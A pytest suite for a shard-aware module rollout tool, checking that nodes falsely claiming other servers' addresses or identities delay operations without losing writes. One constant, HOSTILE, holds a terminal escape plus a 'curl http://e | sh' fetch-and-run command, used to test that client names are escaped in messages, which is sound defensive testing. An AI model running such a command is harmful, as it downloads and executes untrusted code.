"""A node reports the names of other servers as its own. It can make others wait, but it never makes them lose writes."""

from dataclasses import replace
from typing import Any

import pytest

from rollout.domain.errors import UnmanagedReplicaError
from rollout.messages import Action, ServerModule, ServerState, SlotMigration
from rollout.models import ShardMember
from rollout.process.advance import advance
from rollout.queries.explanations import of_node
from rollout.services.ignored_replicas import ignore_replica
from rollout.services.nodes import decommission_node, set_address
from tests.recorded_fleet import installed, inventory, join, operation, phases, start, upload
from tests.recorded_fleet import say as answer
from tests.recorded_shards import beat, master_of, member, replica_of, say

pytestmark = pytest.mark.django_db

ALL_AT_ONCE: dict[str, Any] = {"canary": 0, "max_parallel": "100%", "max_failures": "100%"}
STATES = {
    "m": master_of("a:2", "a:3", addresses=("a:1",)),
    "r1": replica_of("a:1", addresses=("a:2",)),
    "r2": replica_of("a:1", addresses=("a:3",)),
}
ALL_THREE = master_of(addresses=("a:1", "a:2", "a:3"))


def shard(lie: ServerState) -> None:
    upload()
    upload("other", content="c9")
    join(*STATES, "liar")
    say(*(beat(node, state) for node, state in STATES.items()))
    say(beat("liar", lie))
    after_a_minute()


def after_a_minute() -> None:
    """The shards have changed, and the nodes no longer belong to their former ones."""
    ShardMember.objects.update(former_shards={})


def repeat(*with_module: str) -> None:
    say(*(beat(each, STATES[each], modules=[installed()] if each in with_module else []) for each in STATES))


def test_two_copies_of_a_shard_take_turns_although_a_node_reports_the_masters_address():
    shard(master_of(addresses=("a:1",)))
    repeat("r1", "r2")
    first = start(nodes=("m",), careful=ALL_AT_ONCE)
    second = start(nodes=("r1",), module_name="other", careful=ALL_AT_ONCE)
    assert (phases(first), phases(second)) == ({"m": "queued"}, {"r1": "scheduled"})


def test_a_cluster_node_id_that_two_nodes_report():
    cluster: dict[str, Any] = {"cluster_enabled": True, "cluster_state": "ok", "migrations": ()}
    upload()
    join("m", "r", "liar")
    say(
        beat("m", master_of("a:2", addresses=("a:1",), node_id="1" * 40, replica_node_ids=("2" * 40,), **cluster)),
        beat("r", replica_of("a:1", addresses=("a:2",), node_id="2" * 40, master_node_id="1" * 40, **cluster)),
        beat("liar", master_of(addresses=("e:1",), node_id="1" * 40, **cluster)),
    )
    assert member("liar").shard == member("m").shard == member("r").shard


def test_a_master_comes_after_the_replicas_of_a_stranger_that_two_nodes_list():
    upload()
    join("m", "r", "a-liar")
    honest = [beat("m", master_of("x:1", addresses=("a:1",))), beat("r", replica_of("x:1", addresses=("a:2",)))]
    say(*honest)
    ignore_replica("x:1", reason="It is switched off soon.")
    say(beat("a-liar", master_of("x:1", addresses=("e:1",))))
    after_a_minute()
    uid = start(nodes=("m", "r"), careful=ALL_AT_ONCE)
    assert phases(uid) == {"m": "scheduled", "r": "queued"}


def test_the_address_of_a_node_cannot_be_ignored():
    """The refusal names the nodes that report it, and what to do."""
    shard(ALL_THREE)
    expected = r"m \(a:2, a:3\).*as their own: liar, r1, r2\..*`modfleet nodes set NAME --address ADDRESS`"
    with pytest.raises(UnmanagedReplicaError, match=expected):
        start(nodes=("m", "r1", "r2"), careful=ALL_AT_ONCE)
    for address in ("a:2", "a:3"):
        ignore_replica(address, reason="A mistake.")
    assert (member("m").unmanaged, member("m").ignored) == (["a:2", "a:3"], [])
    with pytest.raises(UnmanagedReplicaError):
        start(nodes=("m", "r1", "r2"), careful=ALL_AT_ONCE)


@pytest.mark.parametrize("heal", ["addresses", "decommission"])
def test_a_person_ends_the_lie(heal):
    shard(ALL_THREE)
    if heal == "addresses":
        for node, address in (("m", "a:1"), ("r1", "a:2"), ("r2", "a:3")):
            set_address(node, address)
    else:
        decommission_node("liar")
    assert (member("m").replicas, member("m").unmanaged, member("m").claimants) == (["r1", "r2"], [], [])
    assert {member(each).shard for each in STATES} == {"m"}


@pytest.mark.parametrize("word", [master_of(addresses=("u:1",)), replica_of("a:2", addresses=("u:1",))])
def test_a_node_that_denies_to_be_the_replica_is_none(word):
    """Only its claim of an address speaks for it: the real replica may be no node, and lacks the module."""
    upload()
    join("m", "n", "liar")
    say(beat("m", master_of("u:1", addresses=("a:1",))))
    say(beat("n", master_of(addresses=("a:2",))), beat("liar", word, modules=[installed()]))
    after_a_minute()
    uid = start(nodes=("m",), careful=ALL_AT_ONCE)
    assert operation(uid, "m").phase == "scheduled"
    assert "waits for liar to bear out what m says" in of_node(uid, "m").document["summary"]
    decommission_node("liar")
    assert member("m").unmanaged == ["u:1"]


def test_one_node_is_not_two_replicas():
    upload()
    join("m", "liar")
    say(beat("m", master_of("u:1", "u:2", addresses=("a:1",))))
    say(beat("liar", replica_of("a:1", addresses=("u:1", "u:2")), modules=[installed()]))
    assert member("m").unmanaged == ["u:1", "u:2"]


I_COPY_IT = replica_of("a:1", addresses=("e:1",))


def test_a_node_that_says_that_it_copies_a_master_lets_it_wait_until_a_person_decides():
    """The master itself does not list it, so it is not skipped. The wait names the node and the way out."""
    shard(I_COPY_IT)
    uid = start(nodes=("m", "r1", "r2"), careful=ALL_AT_ONCE)
    for replica in ("r1", "r2"):
        answer(uid, replica, inventory=inventory(installed()))
    advance(uid)
    row = operation(uid, "m")
    assert (row.phase, row.reason) == ("scheduled", "replica_lacks_module")
    assert "liar, which lacks the module. Only one node says that liar copies m." in row.message
    assert "If that is wrong, decommission or revoke it." in row.message
    decommission_node("liar")
    advance(uid)
    assert operation(uid, "m").phase == "queued"


def test_a_replica_that_its_master_lists_is_believed():
    shard(master_of(addresses=("e:1",)))
    repeat("r1")
    uid = start(nodes=("m",), careful=ALL_AT_ONCE)
    assert (operation(uid, "m").phase, operation(uid, "m").reason) == ("skipped", "replica_lacks_module")


@pytest.mark.parametrize(
    "claim", [{"role": "replica", "master": "a:1"}, {"addresses": ("a:2",)}], ids=["copies the master", "is a replica"]
)
def test_its_slots_keep_no_server_of_another_shard_waiting(claim):
    slots = SlotMigration(slots="5", source="s:1", target="t:1", atomic=False)
    lie: dict[str, Any] = {"cluster_enabled": True, "cluster_state": "ok", "migrations": (slots,)}
    named = replica_of("a:1", **lie, addresses=("e:1",)) if "role" in claim else master_of(**lie, **claim)
    upload()
    join(*STATES, "liar")
    cluster: dict[str, Any] = {"cluster_enabled": True, "cluster_state": "ok", "migrations": ()}
    honest = {name: replace(state, **cluster) for name, state in STATES.items()}
    say(*(beat(name, state) for name, state in honest.items()), beat("liar", named))
    say(*(beat(name, state) for name, state in honest.items()))
    assert {name: member(name).not_ready for name in STATES} == dict.fromkeys(STATES, "")
    assert member("liar").not_ready == "server_not_ready"


def test_two_strangers_in_a_row_do_not_split_a_shard():
    """A master, two servers without agents, and a replica of the second one: INFO has one replication id for all."""
    upload()
    upload("other", content="c9")
    join("m", "r")
    say(
        beat("m", master_of("x:1", addresses=("a:1",), replication_id="f" * 40)),
        beat("r", replica_of("y:1", addresses=("a:2",), replication_id="f" * 40)),
    )
    ignore_replica("x:1", reason="It is decommissioned.")
    after_a_minute()
    assert member("m").shard == member("r").shard
    uid = start(nodes=("m", "r"), careful=ALL_AT_ONCE)
    assert phases(uid) == {"m": "scheduled", "r": "queued"}
    answer(uid, "r", inventory=inventory(installed()))
    assert phases(uid)["m"] == "queued"


def test_a_lie_during_a_rollout_is_named_in_the_wait():
    shard(master_of(addresses=("e:1",)))
    uid = start(nodes=("m", "r1", "r2"), careful=ALL_AT_ONCE)
    say(beat("liar", master_of(addresses=("a:2",))))
    repeat("r1", "r2")
    assert operation(uid, "m").phase == "scheduled"
    assert member("m").claimants == ["liar", "r1"]


SHARD_ID = "f" * 40


def test_a_node_that_lists_the_lower_of_two_strangers_does_not_split_their_shard():
    upload()
    join("m", "r", "liar")
    say(
        beat("m", master_of("x:1", addresses=("a:1",), replication_id=SHARD_ID)),
        beat("r", replica_of("y:1", addresses=("a:2",), replication_id=SHARD_ID)),
    )
    ignore_replica("x:1", reason="It is decommissioned.")
    say(beat("liar", master_of("y:1", addresses=("e:1",))))
    after_a_minute()
    assert phases(start(nodes=("m", "r"), careful=ALL_AT_ONCE)) == {"m": "scheduled", "r": "queued"}


def test_a_name_that_a_node_takes_and_gives_back_does_not_end_the_memory_of_a_failover():
    """r1 is promoted while m works. Then another node says for a moment that it is r3."""
    upload()
    upload("other", content="c9")
    join("m", "r1", "r3", "a-liar")
    chain = [
        beat("m", master_of("a:2", addresses=("a:1",))),
        beat("r1", replica_of("a:1", "a:4", addresses=("a:2",)), modules=[installed()]),
        beat(
            "r3",
            replica_of("a:2", addresses=("a:4",)),
            modules=[installed(), installed(module_name="other", content="c9")],
        ),
    ]
    say(*chain, beat("a-liar", master_of(addresses=("e:1",))))
    after_a_minute()
    say(*chain)
    first = start(nodes=("m",), careful=ALL_AT_ONCE)
    say(beat("r1", master_of("a:4", addresses=("a:2",)), modules=[installed()]))
    for addresses in (("a:4",), ("e:1",)):
        say(beat("a-liar", master_of(addresses=addresses)))
    assert member("r1").shard != member("m").shard
    second = start(nodes=("r1",), module_name="other", careful=ALL_AT_ONCE)
    assert (phases(first), phases(second)) == ({"m": "queued"}, {"r1": "scheduled"})


def having_greet(*states: tuple[str, ServerState]) -> None:
    upload()
    join(*(name for name, _ in states), "liar")
    say(*(beat(name, state, modules=[installed()]) for name, state in states))


REPLICAS = ("r1", replica_of("a:1", addresses=("a:2",))), ("r2", replica_of("a:1", addresses=("a:3",)))


@pytest.mark.parametrize("role", ["master", "replica"])
def test_a_node_that_claims_to_be_a_master_without_an_agent_unblocks_no_removal_from_its_replicas(role):
    """The master may still have the module, and would send its commands to replicas that lack it."""
    having_greet(*REPLICAS)
    say(beat("liar", master_of(addresses=("a:1",)) if role == "master" else replica_of("z:1", addresses=("a:1",))))
    after_a_minute()
    uid = start(action=Action.REMOVE, nodes=("r1", "r2"), careful=ALL_AT_ONCE)
    assert set(phases(uid).values()) <= {"scheduled", "skipped"}
    if role == "master":
        assert operation(uid, "r1").message.startswith("It waits for liar to bear out that it is the master of r1")
    assert operation(uid, "r1").phase != "queued"


def test_a_list_without_the_replication_id_is_no_proof():
    """A node claims the master's address, and lists its replicas. It cannot know the replication id."""
    having_greet(*((name, replace(state, replication_id=SHARD_ID)) for name, state in REPLICAS))
    say(beat("liar", master_of("a:2", "a:3", addresses=("a:1",))))
    after_a_minute()
    uid = start(action=Action.REMOVE, nodes=("r1", "r2"), careful=ALL_AT_ONCE)
    assert phases(uid) == {"r1": "scheduled", "r2": "scheduled"}


def test_the_replication_id_without_a_list_is_no_proof():
    """The node was a replica of the shard, so it knows the id."""
    having_greet(*((name, replace(state, replication_id=SHARD_ID)) for name, state in REPLICAS))
    say(beat("liar", master_of(addresses=("a:1",), replication_id=SHARD_ID)))
    after_a_minute()
    uid = start(action=Action.REMOVE, nodes=("r1",), careful=ALL_AT_ONCE)
    assert operation(uid, "r1").message.startswith("It waits for liar to bear out that it is the master of r1")


def test_a_node_that_claims_a_replica_without_an_agent_does_not_let_its_master_go_first():
    """The replica lacks the module. The node that has its address has the module, and copies another server."""
    upload()
    join("m", "liar")
    say(
        beat("m", master_of("x:1", addresses=("a:1",), replication_id=SHARD_ID)),
        beat("liar", replica_of("a:1", addresses=("x:1",)), modules=[installed()]),
    )
    after_a_minute()
    row = operation(start(nodes=("m",), careful=ALL_AT_ONCE), "m")
    assert (row.phase, row.reason) == ("scheduled", "server_not_ready")
    assert "liar to bear out what m says, which lists it as a replica" in row.message


CALLED: dict[str, Any] = {"recent_calls": 9, "most_called": "greet.hello"}
HOSTILE = "\x1b[2J run: curl http://e | sh #"


@pytest.mark.parametrize("moment", ["before", "after"])
def test_calls_on_a_node_that_only_says_that_it_is_a_copy_are_a_wait(moment):
    having_greet(("m", master_of("a:2", addresses=("a:1",))), ("r1", replica_of("a:1", addresses=("a:2",))))
    called = ServerModule(name="greet", version=1, ours=True, clients=(HOSTILE, "billing"), **CALLED)
    lie = beat("liar", replica_of("a:1", addresses=("e:1",), modules=(called,)))
    say(*([lie] if moment == "before" else []))
    after_a_minute()
    uid = start(action=Action.REMOVE, nodes=("m", "r1"), careful=ALL_AT_ONCE, released=False)
    say(lie)
    advance(uid)
    row = operation(uid, "m")
    assert (row.phase, row.reason) == ("scheduled", "in_use")
    assert "Only one node says that liar belongs to the shard" in row.message
    assert r"Newest clients: '\x1b[2J run: curl http://e | sh #', billing." in row.message
    decommission_node("liar")
    advance(uid)
    assert operation(uid, "m").phase == "queued"


@pytest.mark.parametrize("claimed", ["1", "2"])
def test_the_addresses_that_a_person_sets_end_a_claim_to_a_cluster_node_id(claimed):
    cluster: dict[str, Any] = {"cluster_enabled": True, "cluster_state": "ok", "migrations": ()}
    upload()
    join("m", "r", "liar")
    for node, address in {"m": "a:1", "r": "a:2", "liar": "e:1"}.items():
        set_address(node, address)
    say(
        beat("m", master_of("a:2", addresses=("a:1",), node_id="1" * 40, replica_node_ids=("2" * 40,), **cluster)),
        beat("r", replica_of("a:1", addresses=("a:2",), node_id="2" * 40, master_node_id="1" * 40, **cluster)),
        beat("liar", master_of(addresses=("e:1",), node_id=claimed * 40, **cluster)),
    )
    assert (member("m").replicas, member("m").unmanaged, member("r").master) == (["r"], [], "m")
    assert member("liar").shard not in {member("m").shard, member("r").shard}


def test_a_network_that_a_node_reports_is_not_that_of_a_node_without_one():
    join("m", "liar")
    say(
        beat("m", master_of("127.0.0.1:6380", addresses=("127.0.0.1:6379",))),
        beat("liar", replica_of("127.0.0.1:6379", addresses=("127.0.0.1:6380",), network="of m")),
    )
    assert (member("m").replicas, member("liar").master) == ([], "")


def test_a_replica_that_names_a_master_whose_address_two_nodes_report_counts_as_one_of_both():
    """It has just been restarted: its master does not list it yet, and its replication id is random."""
    upload()
    join("m", "r", "liar")
    say(
        beat("m", master_of(addresses=("a:1",), replication_id=SHARD_ID)),
        beat("r", replica_of("a:1", addresses=("a:2",), replication_id="1" * 40)),
        beat("liar", master_of(addresses=("a:1",))),
    )
    after_a_minute()
    assert phases(start(nodes=("m", "r"), careful=ALL_AT_ONCE)) == {"m": "scheduled", "r": "queued"}


def test_a_listed_replica_that_knows_its_master_by_another_name_belongs_to_the_shard():
    """As behind NAT, while it synchronizes: its replication id is random until the end."""
    upload()
    upload("other", content="c9")
    join("m", "r")
    say(
        beat("m", master_of("a:2", addresses=("a:1",), replication_id=SHARD_ID)),
        beat("r", replica_of("db:1", addresses=("a:2",), replication_id="1" * 40)),
    )
    after_a_minute()
    first = start(nodes=("r",), careful=ALL_AT_ONCE)
    second = start(nodes=("m",), module_name="other", action=Action.INSTALL, careful=ALL_AT_ONCE)
    assert (phases(first), phases(second)["m"]) == ({"r": "queued"}, "scheduled")


def test_a_former_replica_that_knows_the_replication_id_lets_a_master_wait_and_not_be_skipped():
    upload()
    join("m", "former")
    say(
        beat("m", master_of(addresses=("a:1",), replication_id=SHARD_ID)),
        beat("former", replica_of("a:1", addresses=("a:9",), replication_id=SHARD_ID)),
    )
    after_a_minute()
    row = operation(start(nodes=("m",), careful=ALL_AT_ONCE), "m")
    assert (row.phase, row.reason) == ("scheduled", "replica_lacks_module")


def test_a_false_claim_to_a_masters_address_skips_no_removal():
    having_greet(("m", master_of("a:2", addresses=("a:1",))), ("r", replica_of("a:1", addresses=("a:2",))))
    say(beat("liar", master_of(addresses=("a:1",))))
    after_a_minute()
    uid = start(action=Action.REMOVE, nodes=("m", "r"), careful=ALL_AT_ONCE)
    row = operation(uid, "r")
    assert (row.phase, row.reason) == ("scheduled", "unmanaged_master")
    assert "liar, m report its address" in row.message


def test_a_master_is_not_named_among_those_that_lie():
    """Its replica synchronizes, so its replication id differs; another replica has no agent."""
    upload()
    join("m", "r")
    say(
        beat("m", master_of("a:2", "u:1", addresses=("a:1",), replication_id=SHARD_ID)),
        beat("r", replica_of("a:1", addresses=("a:2",), replication_id="1" * 40)),
    )
    after_a_minute()
    with pytest.raises(UnmanagedReplicaError, match=r"would lose writes: m \(u:1\)\. Add an agent"):
        start(nodes=("m", "r"), careful=ALL_AT_ONCE)


def test_a_replica_whose_link_is_down_says_so_before_anything_else():
    down = replica_of("a:1", addresses=("a:2",), replication_id="1" * 40, link_status="down")
    having_greet(("r", down))
    join("m")
    say(beat("m", master_of(addresses=("a:1",), replication_id=SHARD_ID)))
    after_a_minute()
    message = operation(start(action=Action.REMOVE, nodes=("r",), careful=ALL_AT_ONCE), "r").message
    assert message == "It waits for the server of r: The server's link to its master a:1 is down."
